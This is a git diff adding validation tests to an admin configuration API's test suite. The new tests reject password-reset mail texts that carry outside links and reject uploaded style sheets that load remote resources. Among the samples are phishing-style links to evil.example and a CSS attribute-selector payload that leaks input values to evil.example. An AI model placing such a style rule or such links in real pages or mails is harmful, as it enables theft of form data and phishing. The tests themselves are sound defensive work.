@@ -195,6 +195,38 @@ describe.each(dialects)('admin config calls on %s (admin-spec §7 "Calls", §4 "
     expect(served.global.required).toBe('Dieses Feld ist ein Pflichtfeld.');
   });
 
+  it('refuses a reset mail text without {link} or with another address, naming the key, and keeps the stored set', async () => {
+    const save = (mail: Record<string, string>) =>
+      t.app.inject({
+        method: 'POST',
+        url: `${api}config/translations?lang=it`,
+        headers: admin,
+        payload: { views: { login: { reset: mail } } },
+      });
+    const good = 'Open {link} to set a new password.';
+    expect((await save({ mail_subject: 'New password', mail_body: good })).statusCode).toBe(200);
+    const refused: Record<string, string>[] = [
+      { mail_body: 'Your account is locked. Write to us.' },
+      { mail_body: 'Open {link} or https://evil.example/reset' },
+      { mail_body: 'Open {link}, or HTTP://evil.example' },
+      { mail_body: 'Open {link} or www.evil.example' },
+      { mail_body: 'Open {link} or write to mailto:help@evil.example' },
+      { mail_subject: 'Go to https://evil.example', mail_body: good },
+    ];
+    for (const mail of refused) {
+      const res = await save(mail);
+      expect(res.statusCode, JSON.stringify(mail)).toBe(400);
+      const key = 'mail_subject' in mail ? 'mail_subject' : 'mail_body';
+      expect(res.json()).toMatchObject({
+        error: 'validation',
+        message: expect.stringContaining(`views.login.reset.${key}`),
+      });
+      expect(res.json().details[0].path).toBe(`body.views.login.reset.${key}`);
+    }
+    const stored = (await t.app.inject(`${api}config/translations?lang=it`)).json();
+    expect(stored.views.login.reset.mail_body).toBe(good);
+  });
+
   it('a language added by an admin is served by info/all_languages with its name', async () => {
     const config = {
       ...withTitle('Languages'),
@@ -276,9 +308,19 @@ describe.each(dialects)('admin config calls on %s (admin-spec §7 "Calls", §4 "
     expect((await t.app.inject(`${api}config/logo`)).statusCode).toBe(404);
   });
 
-  it('accepts a style sheet and a font only when they are what they claim', async () => {
+  it('accepts a style sheet and a font only when they are what they claim, and no style sheet that loads from elsewhere', async () => {
     const css = await upload('style', form('body { color: #222; }', 'style.css'));
     expect(css.statusCode).toBe(200);
+    expect((await t.app.inject(`${api}config/style`)).body).toBe('body { color: #222; }');
+    const leaking = 'body { color: #222; }\ninput[value$="a"] {\n  background: url(https://evil.example/a);\n}\n';
+    const refused = await upload('style', form(leaking, 'style.css'));
+    expect(refused.statusCode).toBe(400);
+    expect(refused.json()).toMatchObject({
+      error: 'validation',
+      message: expect.stringContaining('line 3: url(https'),
+    });
+    const imported = await upload('style', form('@import "other.css";', 'style.css'));
+    expect(imported.json().message).toContain('line 1: @import');
     expect((await t.app.inject(`${api}config/style`)).body).toBe('body { color: #222; }');
     const notFont = await upload('custom_font', form(png));
     expect(notFont.statusCode).toBe(415);
